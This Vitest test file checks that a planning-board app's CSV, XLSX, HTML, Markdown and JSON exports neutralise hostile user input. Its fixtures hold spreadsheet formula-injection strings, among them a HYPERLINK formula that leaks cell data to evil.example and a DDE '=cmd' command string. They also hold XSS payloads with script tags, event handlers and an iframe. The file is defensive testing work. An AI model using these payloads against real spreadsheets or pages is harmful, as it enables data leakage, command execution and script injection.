import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { addCard, createCluster, initBoard, vote } from '../../shared/board/boardModel';
import { readBoard } from '../../shared/board/readBoard';
import type { Board, Card } from '../../shared/board/types';
import { toCsv } from '../../shared/export/toCsv';
import { toHtmlReport } from '../../shared/export/toHtmlReport';
import { toJson } from '../../shared/export/toJson';
import { toMarkdown } from '../../shared/export/toMarkdown';
import { toXlsx } from '../../shared/export/toXlsx';
import { MAX_XLSX_CELL_CHARS } from '../../shared/export/xlsxTableSheet';
import { toIssueMap } from '../../shared/issueMap/toIssueMap';
import type { IssueMap } from '../../shared/issueMap/types';
import { MAX_CARD_TEXT_LENGTH } from '../../shared/limits';
import { DEFAULT_TAXONOMY } from '../../shared/taxonomy';
import { balanganGazetteer } from '../issueMap/balangan';
import { FIXTURE_GENERATED_AT } from '../issueMap/fixtureEvent';
import { readCsv } from './readCsv';
import { readXlsx } from './readXlsx';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
const HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</td></tr></table><iframe src="https://evil.example">',
];
const LONG = 'Jalan rusak '.repeat(420).slice(0, 5_000);
const LONG_UNBROKEN = 'x'.repeat(5_000);

/** A kecamatan board written through the model, as a hostile participant could. */
function hostileDoc(): Y.Doc {
  const doc = new Y.Doc();
  initBoard(doc, {
    kind: 'kecamatan',
    title: '<script>alert("judul")</script>',
    kecamatanKode: '63.11.02',
  });
  createCluster(doc, {
    id: 'k1',
    title: '=HYPERLINK("http://evil.example","isu")',
    x: 0,
    y: 0,
    w: 100,
    h: 100,
    createdAt: 1,
  });
  createCluster(doc, {
    id: 'k2',
    title: '<img src=x onerror=alert(2)>',
    x: 0,
    y: 0,
    w: 100,
    h: 100,
    createdAt: 2,
  });
  const texts = [...FORMULAS, ...HTML, LONG];
  texts.forEach((text, i) => {
    addCard(doc, {
      id: `c${i}`,
      text,
      desaKode: i % 3 === 0 ? null : i % 3 === 1 ? '63.11.02.9999' : '63.11.02.2001',
      bidang: i % 2 === 0 ? 'tidak-ada' : 'ekonomi',
      x: 0,
      y: 0,
      clusterId: i % 3 === 2 ? null : `k${(i % 2) + 1}`,
      author: { id: 'a', name: i % 2 === 0 ? '=cmd|" /C calc"!A0' : '<b>Budi</b>' },
      createdAt: 1_741_914_000_000 + i,
    });
  });
  vote(doc, 'c0', 'v1');
  vote(doc, 'k1', 'v2');
  return doc;
}

function card(id: string, text: string, patch: Partial<Card> = {}): Card {
  return {
    id,
    text,
    desaKode: '63.11.02.2001',
    bidang: 'bidang-karangan',
    x: 0,
    y: 0,
    clusterId: null,
    author: { id: 'a', name: 'A' },
    createdAt: 1_741_914_000_000,
    source: null,
    ...patch,
  };
}

/** A board handed straight to toIssueMap, past readBoard's limits (5,000 and 40,000 characters). */
function oversizedBoard(): Board {
  return {
    meta: { schemaVersion: 1, kind: 'kecamatan', title: 'Besar', kecamatanKode: '63.11.03' },
    cards: [card('long', LONG), card('unbroken', LONG_UNBROKEN), card('huge', '-'.repeat(40_000))],
    clusters: [],
    votes: [],
    canvas: new Map(),
  };
}

function hostileMap(): IssueMap {
  return toIssueMap({
    event: { id: 'e', title: '<script>alert("acara")</script>', year: 2025, kabupaten: '=1+1' },
    boards: [
      { boardId: 'halong', board: readBoard(hostileDoc()).board },
      { boardId: 'besar', board: oversizedBoard() },
    ],
    gazetteer: balanganGazetteer(),
    taxonomy: DEFAULT_TAXONOMY,
    generatedAt: FIXTURE_GENERATED_AT,
  });
}

const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

describe('hostile board content', () => {
  const map = hostileMap();

  it('keeps every hostile card, with unknown desa kept by code and unknown bidang as none', () => {
    const halong = map.boards.find((b) => b.boardId === 'halong');
    const problems = [
      ...(halong?.issues.flatMap((i) => i.problems) ?? []),
      ...(halong?.unclustered ?? []),
    ];
    expect(problems).toHaveLength(FORMULAS.length + HTML.length + 1);
    expect(problems.find((p) => p.cardId === 'c1')?.desa).toEqual({
      kode: '63.11.02.9999',
      nama: null,
    });
    expect(problems.find((p) => p.cardId === 'c0')?.desa).toEqual({ kode: null, nama: null });
    expect(problems.find((p) => p.cardId === 'c0')?.bidang).toBeNull();
    // Through readBoard a 5,000-character card is cut to the card limit, never refused.
    expect(problems.find((p) => p.text.startsWith('Jalan rusak'))?.text).toHaveLength(
      MAX_CARD_TEXT_LENGTH,
    );
  });

  it('neutralises every formula-looking CSV cell and keeps the rest of its text', () => {
    const rows = readCsv(toCsv(map));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    const texts = rows.map((r) => r[6]);
    for (const f of FORMULAS) expect(texts).toContain(`'${f}`.replace(/\r/g, '\n'));
    expect(rows[1]?.[0]).toBe("'=1+1");
  });

  it('writes no formula cells to XLSX and neutralises formula-looking text there too', async () => {
    const sheets = await readXlsx(await toXlsx(map));
    for (const [name, rows] of Object.entries(sheets)) {
      for (const row of rows) {
        for (const cell of row) {
          if (typeof cell !== 'string') continue;
          expect(cell, name).not.toMatch(FORMULA_START);
          expect(cell, name).not.toMatch(/^<</);
        }
      }
    }
    const texts = (sheets.Permasalahan ?? []).map((r) => r[6]);
    for (const f of FORMULAS) expect(texts).toContain(`'${f}`.replace(/\r/g, '\n'));
  });

  it("caps a cell over Excel's limit instead of writing a file Excel cannot open", async () => {
    const sheets = await readXlsx(await toXlsx(map));
    const huge = (sheets.Permasalahan ?? []).find((r) => String(r[6]).startsWith("'---"));
    expect(String(huge?.[6])).toHaveLength(MAX_XLSX_CELL_CHARS);
  });

  it('exports 5,000-character text whole in CSV, JSON, Markdown and HTML', () => {
    expect(readCsv(toCsv(map)).map((r) => r[6])).toContain(LONG);
    expect(toJson(map)).toContain(LONG);
    expect(toMarkdown(map)).toContain(LONG);
    const html = toHtmlReport(map);
    expect(html).toContain(LONG);
    // An unbroken run may break anywhere, so it cannot push the table off the A4 page.
    expect(html).toContain(`<td class="long">${LONG_UNBROKEN}</td>`);
  });

  it('escapes all HTML in the report: every tag and attribute in it is ours', () => {
    const html = toHtmlReport(map);
    const tags = [...html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)];
    const names = new Set(tags.map((t) => t[1]?.toLowerCase()));
    expect([...names].sort()).toEqual(
      ['b', 'body', 'dd', 'div', 'dl', 'dt', 'h1', 'h2', 'h3', 'head', 'html', 'meta', 'p']
        .concat(['section', 'style', 'table', 'tbody', 'td', 'th', 'thead', 'title', 'tr'])
        .sort(),
    );
    const allowed = ['class', 'id', 'lang', 'charset', 'http-equiv', 'content', 'name'];
    for (const [, , attributes = ''] of tags) {
      // Every attribute is name="value" with one of our names, and nothing else is in the tag.
      const quoted = /\s([\w-]+)="[^"<>]*"/g;
      for (const [, name] of attributes.matchAll(quoted)) expect(allowed).toContain(name);
      expect(attributes.replace(quoted, '').trim()).toBe('');
    }
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&lt;b&gt;Budi&lt;/b&gt;');
    expect(html).toContain('&lt;script&gt;alert(&quot;acara&quot;)&lt;/script&gt;');
    // Defence in depth: the CSP forbids scripts and requests even if escaping ever failed.
    expect(html).toContain("default-src 'none'");
  });

  it('writes HTML in Markdown as entities, since Markdown renderers pass raw HTML through', () => {
    const markdown = toMarkdown(map);
    expect(markdown).not.toMatch(/<script|<img|<svg|<iframe|<b>/i);
    expect(markdown).toContain('&lt;script&gt;alert("acara")&lt;/script&gt;');
    expect(markdown).toContain('&lt;img src=x onerror=alert(2)&gt;');
    // A pipe in a card cannot split a table row.
    expect(markdown).not.toMatch(/[^\\]\|evil/);
  });

  it('keeps JSON exact: the hostile strings read back unchanged', () => {
    const back = JSON.parse(toJson(map)) as IssueMap;
    expect(back).toEqual(map);
    expect(back.event.title).toBe('<script>alert("acara")</script>');
  });
});
